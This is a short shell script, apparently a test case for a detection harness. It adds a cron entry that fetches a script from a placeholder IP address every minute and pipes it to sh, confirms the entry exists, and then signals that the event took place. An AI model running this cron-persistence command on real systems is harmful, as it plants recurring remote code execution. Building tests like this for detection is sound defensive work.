#!/bin/sh
. /opt/case/case.sh

(crontab -l 2>/dev/null || true; echo '* * * * * curl -fsSL http://203.0.113.10/payload.sh | sh') | crontab -
crontab -l | grep -q payload
took_place
